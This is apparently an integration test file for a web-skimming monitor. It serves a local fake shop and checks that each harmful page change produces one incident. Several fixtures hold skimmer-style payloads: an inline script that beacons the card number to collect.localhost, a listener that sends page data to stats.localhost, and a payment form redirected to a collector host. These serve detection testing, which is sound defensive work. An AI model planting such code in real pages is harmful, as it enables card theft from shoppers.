// Incidents of the real product: each cause is one, and its title says what happened, on which page, and on which site.
import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Incident, IncidentList, ScanChanges, ScanJudgements, ScanSummary, Site } from '@tillwatch/contract/shapes'
import { startTestbed } from '@tillwatch/testbed'
import { atDepth } from '@tillwatch/testbed/depth'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { signUp, type TestPerson } from '../packages/server/test/support/sign-up.ts'
import { declaration, type Installation, installation } from './faults/installation.ts'

let here: Installation
let person: TestPerson
let origin: string
beforeEach(async () => {
  here = await installation()
})
afterEach(() => here.remove())

async function start(env: Record<string, string>): Promise<void> {
  const run = here.start({ BILLING: 'off', TILLWATCH_SCANS_AT_ONCE: '2', ...env })
  origin = await run.origin()
  person = await signUp(origin)
}

async function api<T>(path: string, body?: object): Promise<T> {
  const headers = { ...person.bearer, 'content-type': 'application/json' }
  const answer = await fetch(
    `${origin}/api/v1${path}`,
    body === undefined ? { headers } : { method: 'POST', headers, body: JSON.stringify(body) },
  )
  const text = await answer.text()
  expect([path, answer.ok, answer.ok ? '' : text]).toEqual([path, true, ''])
  return JSON.parse(text) as T
}

/** Once the scan, the examination of its code, and its comparison have ended. */
async function settled(scanId: string): Promise<void> {
  await expect.poll(async () => (await api<ScanSummary>(`/scans/${scanId}`)).state).toMatch(/complete|partial/)
  await expect.poll(async () => (await api<ScanJudgements>(`/scans/${scanId}/judgements`)).state).toBe('examined')
  await expect.poll(async () => (await api<ScanChanges>(`/scans/${scanId}/changes`)).comparison?.state).toMatch(/first|compared/)
}

const claim = (url: string) => api<Site>('/sites', { subscriptionId: null, url, declaration })
const incidents = async (site: string) => (await api<IncidentList>(`/incidents?site=${site}&limit=50`)).incidents
const titles = (found: readonly Incident[]) => found.map(({ title, verdict }) => `${verdict}: ${title.sentence}`)

const attackShops = atDepth(['skim-listener', 'skim-form-action'], null)

it('makes one incident of the attack on each shop of the testbed', async () => {
  const testbed = await startTestbed()
  try {
    await start({ TILLWATCH_ALLOW_PRIVATE: testbed.allowPrivate.join(' '), TILLWATCH_RESOLVE: testbed.resolve.join(' ') })
    const shops = testbed.shops.filter(({ name }) => (attackShops === null ? name.startsWith('skim-') : attackShops.includes(name)))
    const sites = []
    for (const shop of shops) sites.push({ shop, site: await claim(testbed.url(shop)) })
    for (const { shop, site } of sites) {
      await settled(site.pages[0]?.lastScan?.id ?? '')
      const open = await incidents(site.id)
      expect.soft([shop.name, titles(open)]).toEqual([shop.name, [expect.stringContaining(' — ')]])
      expect.soft([shop.name, open[0]?.title.sentence]).toEqual([shop.name, expect.stringContaining(shop.host)])
      expect.soft([shop.name, open[0]?.verdict]).toEqual([shop.name, 'malicious'])
    }
  } finally {
    await testbed.stop()
  }
})

interface ShopPage {
  headers?: Record<string, string>
  body: string
  /** Files of the page by path. */
  files?: Record<string, string>
}

const form = '<form action="/pay" method="post"><label>Card <input name="cc" autocomplete="cc-number"></label><button>Pay</button></form>'
const calm = 'document.documentElement.dataset.menu = String(document.links.length)'
const integrityOf = (code: string) => `sha256-${createHash('sha256').update(code).digest('base64')}`
const csp = { 'content-security-policy': "script-src 'self' *.localhost:*; frame-ancestors 'none'" }
const withFile = (code: string): ShopPage => ({ body: `${form}<script src="app.js"></script>`, files: { 'app.js': code } })
const inline = (code: string): ShopPage => ({ body: `${form}<script>${code}</script>` })
const external = (port: number, name: string, attributes = '') =>
  `<script src="http://${name}.localhost:${port}/t.js" ${attributes}></script>`
const frame = (port: number, name: string) => `<iframe src="http://${name}.localhost:${port}/frame" width="300" height="200"></iframe>`

/** Each: the page before and after, and what its one incident says. */
const changes: [name: string, before: (port: number) => ShopPage, after: (port: number) => ShopPage, title: RegExp][] = [
  ['new-script', () => ({ body: form }), (port) => ({ body: form + external(port, 'cdn-tags') }), /^New script: cdn-tags\.localhost/],
  ['policy-removed', () => ({ body: form, headers: csp }), () => ({ body: form }), /^Policy removed: content-security-policy/i],
  [
    'form-redirected',
    () => ({ body: form }),
    (port) => ({ body: form.replace('/pay', `http://collect.localhost:${port}/pay`) }),
    /^Payment form redirected to collect\.localhost/,
  ],
  [
    'listener',
    () => withFile(calm),
    (port) => withFile(`${calm};addEventListener('load', function () { fetch('http://stats.localhost:${port}/k?' + document.title) })`),
    /^Script gained a new capability: .*app\.js/,
  ],
  [
    'skimmer',
    () => inline(calm),
    (port) =>
      inline(
        `${calm};document.querySelector('[name=cc]').addEventListener('change', function () { navigator.sendBeacon('http://collect.localhost:${port}/c', btoa(this.value)) })`,
      ),
    /^(Card number sent to collect\.localhost|Skimmer code found in )/,
  ],
  [
    'policy-weaker',
    () => ({ body: form, headers: csp }),
    () => ({ body: form, headers: { 'content-security-policy': "script-src * 'unsafe-inline'; frame-ancestors 'none'" } }),
    /^Policy weakened: content-security-policy/i,
  ],
  [
    'integrity',
    (port) => ({ body: form + external(port, 'cdn-lib', `integrity="${integrityOf(calm)}" crossorigin`) }),
    (port) => ({ body: form + external(port, 'cdn-lib', 'crossorigin') }),
    /^Integrity check removed: cdn-lib\.localhost/,
  ],
  [
    'card-field',
    () => ({ body: form }),
    () => ({ body: `${form}<input name="cc2" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">` }),
    /^(Card field added to the page|Fake payment form added)/,
  ],
  [
    'password-field',
    () => ({ body: form }),
    () => ({ body: `${form}<form action="/login"><input type="password" name="p"></form>` }),
    /^Password field added to the page/,
  ],
  ['frame', () => ({ body: form }), (port) => ({ body: form + frame(port, 'ads') }), /^Third-party frame added: ads\.localhost/],
  [
    'framing',
    () => ({ body: form, headers: { 'x-frame-options': 'DENY' } }),
    () => ({ body: form }),
    /^Security header removed: x-frame-options/i,
  ],
  [
    'cookie',
    () => ({ body: form, headers: { 'set-cookie': 'session=1; HttpOnly; SameSite=Strict' } }),
    () => ({ body: form, headers: { 'set-cookie': 'session=1' } }),
    /^Cookie protection weakened/,
  ],
  [
    'base',
    () => ({ body: form }),
    (port) => ({ body: `<base href="http://mirror.localhost:${port}/">${form}` }),
    /^(Page base URL changed|Payment form redirected)/,
  ],
]
const shown = atDepth(changes.slice(0, 2), changes)

it('makes one incident of each kind of change', async () => {
  const state = new Map<string, 'before' | 'after'>()
  let port = 0
  const shop: Server = createServer((request, response) => {
    const host = (request.headers.host ?? '').split(':')[0] ?? ''
    const change = changes.find(([name]) => host === `${name}.shop.localhost`)
    if (change === undefined) {
      const type = request.url?.endsWith('.js') ? 'text/javascript' : 'text/html'
      response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' })
      response.end(type === 'text/javascript' ? calm : '<p>Hello</p>')
      return
    }
    const { headers = {}, body, files = {} } = change[state.get(change[0]) === 'after' ? 2 : 1](port)
    const code = files[(request.url ?? '').slice(1)]
    response.writeHead(200, { 'content-type': code === undefined ? 'text/html' : 'text/javascript', ...headers })
    response.end(code ?? `<!doctype html><title>Pay</title><h1>Pay</h1>${body}`)
  })
  await new Promise<void>((resolve) => shop.listen(0, '127.0.0.1', resolve))
  port = (shop.address() as AddressInfo).port
  try {
    await start({ TILLWATCH_ALLOW_PRIVATE: `*.localhost:${port}`, TILLWATCH_RESOLVE: `*.localhost:${port}:127.0.0.1` })
    const watched = []
    for (const [name, , , title] of shown) watched.push({ name, title, site: await claim(`http://${name}.shop.localhost:${port}/`) })
    for (const { site } of watched) await settled(site.pages[0]?.lastScan?.id ?? '')
    for (const { name, title, site } of watched) {
      const before = new Set((await incidents(site.id)).map(({ id }) => id))
      state.set(name, 'after')
      await settled((await api<{ id: string }>(`/pages/${site.pages[0]?.id}/scans`, {})).id)
      const fresh = (await incidents(site.id)).filter(({ id }) => !before.has(id))
      expect.soft([name, titles(fresh)]).toEqual([name, [expect.stringContaining(` — ${name}.shop.localhost:${port}`)]])
      expect.soft([name, fresh[0]?.title.sentence]).toEqual([name, expect.stringMatching(title)])
    }
  } finally {
    shop.closeAllConnections()
    shop.close()
  }
})
